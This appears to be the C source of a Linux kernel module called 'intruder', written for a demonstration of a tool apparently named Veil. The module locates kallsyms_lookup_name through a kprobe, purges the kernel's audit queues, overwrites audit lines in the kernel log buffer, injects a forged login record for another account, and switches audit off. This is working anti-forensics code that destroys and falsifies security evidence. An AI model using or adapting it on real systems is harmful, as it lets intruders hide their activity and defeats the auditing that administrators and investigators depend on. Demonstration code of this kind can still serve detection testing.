// SPDX-License-Identifier: GPL-2.0
/*
 * An intruder in the kernel, for the demonstration: it hides what was done before. It wipes the audit system's queues and
 * what they printed into the kernel's log, puts other records in their place, and switches audit off behind its back.
 */
#include <linux/audit.h>
#include <linux/kallsyms.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/netlink.h>
#include <linux/skbuff.h>
#include <linux/string.h>
#include <net/netlink.h>

#include "intruder.h"

/* Same length as what it replaces, so that the kernel's log stays readable. */
#define PRINTED "audit: type="
#define FORGED "nothing here"

typedef unsigned long (*lookup_t)(const char *name);

static lookup_t lookup;

/* kallsyms_lookup_name() is not for modules; a probe on it tells where it is. */
static lookup_t find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	lookup_t found;

	if (register_kprobe(&probe))
		return NULL;
	found = (lookup_t)probe.addr;
	unregister_kprobe(&probe);
	return found;
}

void *intruder_lookup(const char *name)
{
	return lookup ? (void *)lookup(name) : NULL;
}

static void wipe_queues(void)
{
	static const char *const names[] = { "audit_queue", "audit_retry_queue", "audit_hold_queue" };
	size_t i;

	for (i = 0; i < ARRAY_SIZE(names); i++) {
		struct sk_buff_head *queue = intruder_lookup(names[i]);

		if (queue)
			skb_queue_purge(queue);
	}
}

static int wipe_log(void)
{
	char **buffer = intruder_lookup("log_buf");
	u32 *size = intruder_lookup("log_buf_len");
	char *at, *end;
	int count = 0;

	if (!buffer || !size)
		return 0;
	end = *buffer + *size - sizeof(PRINTED);
	for (at = *buffer; at < end; at++) {
		if (memcmp(at, PRINTED, sizeof(PRINTED) - 1))
			continue;
		memcpy(at, FORGED, sizeof(FORGED) - 1);
		for (at += sizeof(FORGED) - 1; at < end && *at >= ' ' && *at < 0x7f; at++)
			*at = '.';
		count++;
	}
	return count;
}

/* A record with a time and a number of its own choosing, in the queue as if the kernel had made it. */
static void forge(void)
{
	static const char text[] = "audit(1000000000.000:1): op=login acct=\"somebody-else\" res=1";
	struct sk_buff_head *queue = intruder_lookup("audit_queue");
	struct sk_buff *record = nlmsg_new(sizeof(text), GFP_KERNEL);

	if (!record || !queue)
		return;
	if (nlmsg_put(record, 0, 0, AUDIT_USER, 0, 0))
		memcpy(skb_put(record, sizeof(text) - 1), text, sizeof(text) - 1);
	skb_queue_tail(queue, record);
	/* The same by the front door, which the driver watches. */
	audit_log(NULL, GFP_KERNEL, AUDIT_USER, "op=login acct=\"somebody-else\" res=1");
}

static int __init intruder_init(void)
{
	u32 *enabled;
	int count;

	lookup = find_lookup();
	if (!lookup)
		return -ENOENT;
	wipe_queues();
	count = wipe_log();
	forge();
	enabled = intruder_lookup("audit_enabled");
	if (enabled)
		*enabled = 0;
	pr_info("intruder: %d lines of the kernel's log were rewritten, audit is off\n", count);
	return 0;
}
module_init(intruder_init);

static void __exit intruder_exit(void)
{
}
module_exit(intruder_exit);

MODULE_DESCRIPTION("Hides what was done before, for Veil's demonstration");
MODULE_LICENSE("GPL");
